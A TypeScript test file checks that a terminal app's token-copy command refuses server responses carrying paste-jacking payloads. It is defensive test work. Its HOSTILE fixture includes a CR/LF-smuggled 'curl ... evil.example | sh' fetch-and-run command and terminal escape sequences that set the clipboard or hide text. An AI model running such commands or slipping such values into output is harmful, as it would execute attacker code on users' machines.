import {afterAll, afterEach, beforeAll, describe, expect, it} from 'vitest';
import {PLAINTEXT_BANNER} from '../../src/screens/PlaintextModal.js';
import {clientFor, renderApp, type Rendered} from '../support/renderApp.js';
import {json, type FaultServer} from '../support/faultServer.js';
import {clipboardWrites} from '../support/osc52.js';
import {emptyProjectServer, FAULT_ISSUE, FAULT_PROJECT} from './tokenTestKit.js';

// `c` copies only a plaintext of the contract's form: the modal shows sanitised text, so
// copying the raw server string would paste bytes the operator never saw (paste-jacking).
const P = FAULT_PROJECT;
const TOKEN_ID = '0190a8b8-a0c0-7a0a-8a0a-a0a0a0a0a0a1';
const GOOD = 'psb_prod_aebagbafaydqqbrhibbsa3kqaq_node_abcdefghijklmnopqrstuvwxyz';
const HOSTILE: Record<string, string> = {
  'CR/LF and a command': `${GOOD}\r\ncurl -s https://evil.example/x | sh\r\n`,
  'an OSC 52 that would set the clipboard itself': `${GOOD}\x1b]52;c;ZXZpbA==\x07`,
  'a CSI that hides text': `psb_prod_aebagbafaydqqbrhibbsa3kqaq_node_\x1b[8mabcdefghijklmnopqrstuvwxyz`,
  'a zero-width space': `psb_prod_aebagbafaydqqbrhibbsa3kqaq_node_abcdefghij\u200bklmnopqrstuvwxyz`,
  'a wrong shape': 'pst_not_a_bootstrap_token_at_all',
};

let fault: FaultServer;
let app: Rendered | undefined;
beforeAll(async () => {
  fault = await emptyProjectServer('copy');
});
afterAll(() => fault.close());
afterEach(() => app?.unmount());

/** Issues against a server that answers with `token` as the plaintext; returns the modal frame. */
async function issueAnswering(token: string): Promise<Rendered> {
  const expires = new Date(Date.now() + 3_600_000).toISOString();
  fault.route('POST', FAULT_ISSUE, json(201, {token_id: TOKEN_ID, token, issued_at: new Date().toISOString(), expires_at: expires}));
  app = await renderApp(clientFor(fault.url, 'pst_test_token'), {name: 'tokens', project: P});
  await app.waitFor('No bootstrap tokens in copy yet.');
  await app.press('n', 'tab', 'prod', 'return', 'return');
  await app.waitFor(PLAINTEXT_BANNER);
  return app;
}

describe('copying the plaintext', () => {
  it('sends exactly a plaintext of the contract form', async () => {
    const a = await issueAnswering(GOOD);
    await a.press('c');
    await a.waitFor('plaintext sent to terminal clipboard (OSC 52)');
    expect(clipboardWrites(a.ttyBytes())).toEqual([GOOD]);
  });

  for (const [what, token] of Object.entries(HOSTILE)) {
    it(`refuses, and says why, for ${what}`, async () => {
      const a = await issueAnswering(token);
      await a.press('c');
      const frame = await a.waitFor('plaintext not copied: it');
      expect(frame.replace(/\s+/g, ' ')).toMatch(/plaintext not copied: it (contains control, escape or invisible characters|does not have the form psb_<env>_<project>_<kind>_<random>)/);
      expect(a.ttyBytes()).toBe('');
    });
  }
});
